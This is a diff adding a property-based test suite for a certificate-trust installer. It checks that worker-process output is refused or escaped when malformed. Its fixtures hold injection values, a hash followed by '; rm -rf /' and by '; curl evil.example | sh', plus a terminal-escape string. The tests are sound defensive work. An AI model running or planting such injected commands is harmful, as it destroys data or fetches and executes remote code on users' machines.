@@ -1,0 +1,170 @@
+"""What another account's process answers is believed to be text and numbers, and nothing else."""
+
+from __future__ import annotations
+
+import copy
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from trustinstall import jsonreport, outcome, views
+from trustinstall.backend import Store
+from trustinstall.errors import TrustInstallError
+from trustinstall.guidance import advise
+from trustinstall.host import Account, Host
+from trustinstall.installer import Part, Report
+from trustinstall.outcome import Outcome, Result
+from trustinstall.report import change_lines, list_lines, plain, stores_lines
+from trustinstall.situation import Situation
+from trustinstall.views import Anchor, Held, Listed, StoreView, View
+
+EVIL = "\x1b]0;evil\x07\r\n\u202e\ud800\0"
+SHA256 = "ab" * 32
+OUTCOMES = (
+    Outcome(
+        Store("certifi", "/home/bob/x", 1001, "certifi:/home/bob/x", "requests", "/etc/x", "why", "label", system=True),
+        Result.ADDED,
+        "detail",
+        "code",
+        (SHA256,),
+        (SHA256,),
+        3,
+        ("write /x",),
+    ),
+)
+VIEW = View(
+    (Listed("bob", SHA256, "CN=X", "X", "2030-01-01", "2026", "bob", (Held("a", "a", "trusted", entries=("/x",)),)),),
+    (Anchor("a", SHA256, "CN=X", ours=True),),
+    (StoreView("bob", "a", "certifi", "/a", "a", "requests", "", writable=True, anchors=3, ours=1, problem=""),),
+    ("a note",),
+)
+leaves = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(),
+    st.floats(),
+    st.text(max_size=20),
+    st.sampled_from([EVIL, SHA256, "added", "x" * 100_000, f"{SHA256}; rm -rf /"]),
+)
+anything = st.recursive(
+    leaves, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
+)
+
+
+@st.composite
+def spoilt(draw: st.DrawFn, data: Any) -> bytes:  # noqa: ANN401  JSON
+    """A good answer, in which a few places hold something else, or nothing."""
+    data = copy.deepcopy(data)
+    for _ in range(draw(st.integers(1, 3))):
+        where, found = data, None
+        while isinstance(where, (dict, list)) and where:
+            found = (where, draw(st.sampled_from([*where] if isinstance(where, dict) else range(len(where)))))
+            where = where[found[1]]
+            if draw(st.integers(0, 3)) == 0:
+                break
+        if found is not None and draw(st.booleans()):
+            found[0][found[1]] = draw(anything)
+        elif isinstance(found[0] if found else None, dict):
+            del found[0][found[1]]  # type: ignore[index]  it is no None here
+    return json.dumps(data).encode()
+
+
+def good_outcomes() -> Any:  # noqa: ANN401  JSON
+    """What a worker answers to add."""
+    return json.loads(outcome.to_bytes(OUTCOMES))
+
+
+def good_view() -> Any:  # noqa: ANN401  JSON
+    """What a worker answers to list."""
+    return json.loads(views.to_bytes(VIEW))
+
+
+def show_outcomes(data: bytes) -> str:
+    """Everything that is printed of a worker's outcomes; "" where they are refused."""
+    try:
+        outcomes = outcome.from_bytes(data)
+    except TrustInstallError as error:
+        assert str(error).isprintable()
+        return ""
+    who = Account(0, 0, "root", "/root")
+    situation = Situation("sudo", frozenset(), machine=True, own=False, accounts=(), uncovered=0, may_ask=False)
+    shown: list[str] = []
+    for command in ("add", "remove"):
+        report = Report(command, situation, (), (Part("bob", outcomes),))
+        advice = advise(report, Host("linux", "/", {}, who), ())
+        for one in advice.foreign:
+            assert one.split()[-2] == "--sha256", one
+            assert len(one.split()[-1]) == 64
+        shown += [
+            *change_lines(report, advice, plain, verbose=True),
+            *change_lines(report, advice, plain, verbose=False),
+        ]
+        json.loads(jsonreport.change(report, None, report.exit_code(strict=True), advice))
+    return "\n".join(shown)
+
+
+def show_view(data: bytes) -> str:
+    """Everything that is printed of a worker's view; "" where it is refused."""
+    try:
+        view = VIEW + views.from_bytes(data)
+    except TrustInstallError as error:
+        assert str(error).isprintable()
+        return ""
+    json.loads(jsonreport.look("list", view))
+    json.loads(jsonreport.look("stores", view))
+    assert {one.store for one in view.stores} | {one.store for one in view.anchors}  # the installer compares them
+    return "\n".join([*list_lines(view, plain, files=True, every_anchor=True), *stores_lines(view, plain)])
+
+
+@given(st.one_of(spoilt(good_outcomes()), st.binary(max_size=60), anything.map(lambda one: json.dumps(one).encode())))
+def test_outcomes_are_never_worse_than_refused(data: bytes) -> None:
+    """Whatever arrives: outcomes that can be printed, or one error; no other exception and no control character."""
+    assert show_outcomes(data).replace("\n", "").isprintable()
+
+
+@given(st.one_of(spoilt(good_view()), st.binary(max_size=60), anything.map(lambda one: json.dumps(one).encode())))
+def test_views_are_never_worse_than_refused(data: bytes) -> None:
+    """The same for list and stores."""
+    assert show_view(data).replace("\n", "").isprintable()
+
+
+@pytest.mark.parametrize("show", [show_outcomes, show_view])
+@pytest.mark.parametrize(
+    "data",
+    [b"", b"null", b"{}", b"[1]", b"[[]]", b"\xff\xfe", b"[" * 200_000, b"9" * 5000, b'{"listed": 1e999}', b"NaN"],
+    ids=["nothing", "null", "object", "number", "lists", "bytes", "deep", "long", "infinite", "nan"],
+)
+def test_nonsense_is_refused(show: Any, data: bytes) -> None:  # noqa: ANN401  one of the two above
+    """One sentence, whatever is wrong with it."""
+    assert show(data) == ""
+
+
+def test_what_is_good_is_believed() -> None:
+    """The other direction: what a worker really sends arrives whole."""
+    assert outcome.from_bytes(outcome.to_bytes(OUTCOMES)) == OUTCOMES
+    assert views.from_bytes(views.to_bytes(VIEW)) == VIEW
+
+
+def test_control_characters_are_escaped() -> None:
+    """A store's path may hold anything; a terminal sees none of it."""
+    data = good_outcomes()
+    data[0]["store"]["location"] = data[0]["detail"] = data[0]["store"]["id"] = EVIL
+    (found,) = outcome.from_bytes(json.dumps(data).encode())
+    assert found.detail == r"\x1b]0;evil\x07\x0d\x0a\u202e\ud800\x00"
+    assert "\\x1b" in show_outcomes(json.dumps(data).encode())
+    view = good_view()
+    view["stores"][0]["problem"] = view["notes"][0] = view["listed"][0]["name"] = EVIL
+    assert "\\x1b" in show_view(json.dumps(view).encode())
+
+
+@pytest.mark.parametrize("word", [f"{SHA256}; curl evil.example | sh", "ab", SHA256.upper(), "", EVIL])
+def test_a_fingerprint_is_64_digits_or_the_answer_is_refused(word: str) -> None:
+    """It ends up in a command that we tell an administrator to run."""
+    for key in ("changed", "foreign"):
+        data = good_outcomes()
+        data[0][key] = [word]
+        with pytest.raises(TrustInstallError):
+            outcome.from_bytes(json.dumps(data).encode())
